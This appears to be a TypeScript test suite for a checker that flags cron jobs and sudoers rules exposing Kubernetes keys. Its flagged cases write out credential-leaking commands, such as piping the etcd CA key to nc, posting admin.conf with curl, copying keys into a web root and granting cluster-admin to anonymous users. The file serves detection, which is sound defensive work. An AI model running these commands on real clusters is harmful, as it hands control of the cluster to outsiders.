import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { givenAwayBy, givesNothingAway, runsByItself } from './given-away.js';
import { resultsOf } from './judged.testing.js';
import { at } from './node-seen.testing.js';

const ADMIN = '/etc/kubernetes/admin.conf';
const job = (line: string): string => givenAwayBy('/etc/cron.d/a', `# a job\n${line}\n`).join('; ');
const right = (line: string): string => givenAwayBy('/etc/sudoers.d/a', `${line}\n`).join('; ');

describe('what runs by itself', () => {
  it('gives nothing away where it keeps keys to itself', () => {
    for (const sound of [
      `* * * * * root chmod 600 ${ADMIN}`,
      `* * * * * root chmod -R go-rwx /etc/kubernetes/pki`,
      '* * * * * root chmod 644 /etc/kubernetes/pki/ca.crt',
      '0 3 * * * root tar -czf /root/backup/pki.tgz /etc/kubernetes/pki',
      `0 3 * * * root kubectl --kubeconfig=${ADMIN} get nodes > /tmp/nodes`,
      '0 3 * * * root curl -s https://a.example/ping -d ok',
      `0 3 * * * root KUBECONFIG=${ADMIN} kubectl proxy --address=127.0.0.1`,
      `# cp ${ADMIN} /tmp/`,
      'ExecStart=/usr/bin/kubeadm token create --ttl 1h',
      'kubectl create clusterrolebinding ops --clusterrole=cluster-admin --group=ops',
    ])
      assert.equal(job(sound), '', sound);
    assert.equal(right('%sudo ALL=(ALL:ALL) ALL'), '');
    assert.equal(right('dev ALL=(root) NOPASSWD: /usr/bin/systemctl restart kubelet'), '');
  });

  it('is told where it opens, copies or sends a key, or lets others in', () => {
    const opened = 'a key that is opened to others';
    for (const mode of ['644', '0755', '640', 'a+r', '+r', 'go=rX'])
      assert.equal(job(`chmod ${mode} ${ADMIN}`), opened);
    assert.equal(job('chmod -R 755 /etc/kubernetes/pki'), opened);
    assert.equal(job('chmod 644 /etc/kubernetes/pki/*'), opened);
    const copied = 'a key that goes where everybody reads';
    assert.equal(job('cp /etc/kubernetes/pki/etcd/ca.key /var/www/html/'), copied);
    assert.equal(job(`cat ${ADMIN} > /tmp/x`), copied);
    assert.equal(job(`cp -r /etc/kubernetes \\\n  /dev/shm/x`), copied);
    const sent = 'a key that is sent away';
    assert.equal(job(`curl -s -F f=@${ADMIN} https://a.example`), sent);
    assert.equal(job('cat /etc/kubernetes/pki/ca.key | nc 192.0.2.1 99'), sent);
    assert.equal(job('python3 -m http.server --directory /etc/kubernetes'), 'keys that a server hands out');
    assert.equal(job('kubeadm token create --print-join-command > /tmp/j'), 'a join that goes where everybody reads');
    assert.equal(job('kubeadm token create --ttl 0'), 'a token without an end');
    const open = 'the API, with the rights of a kubeconfig, for whoever comes';
    assert.equal(job('kubectl proxy --address=0.0.0.0'), open);
    assert.equal(job("kubectl proxy --accept-hosts='^.*$'"), open);
    const all = 'kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=system:anonymous';
    assert.equal(job(all), 'rights for everybody');
    assert.equal(right(`dev ALL=(root) NOPASSWD: /usr/bin/cat ${ADMIN}`), 'a right to read what only root may');
    assert.equal(
      right('dev ALL=(root) NOPASSWD: /usr/bin/kubeadm token create *'),
      'a right to make tokens that machines join with',
    );
  });

  it('is a job, a unit, a script of all, a login or a right, and no file that somebody keeps', () => {
    for (const path of ['/etc/cron.daily/a', '/etc/crontab', '/etc/sudoers', '/etc/rc.local', '/usr/local/bin/a.sh'])
      assert.equal(runsByItself(path), true, path);
    for (const path of ['/root/a.sh', '/etc/kubernetes/a.sh', '/var/log/kubeadm.log'])
      assert.equal(runsByItself(path), false, path);
    const one = (path: string, more: object = {}) => {
      const { file } = at(path, { kind: 'other' });
      return { path, file: file === null ? null : { ...file, ...more } };
    };
    assert.equal(resultsOf(givesNothingAway, [one('/etc/crontab')], undefined).join(), 'met');
    assert.equal(resultsOf(givesNothingAway, [one('/etc/crontab', { gives: ['a'] })], undefined).join(), 'unmet');
    assert.deepEqual(resultsOf(givesNothingAway, [one('/root/a.sh', { gives: ['a'] })], undefined), []);
  });
});
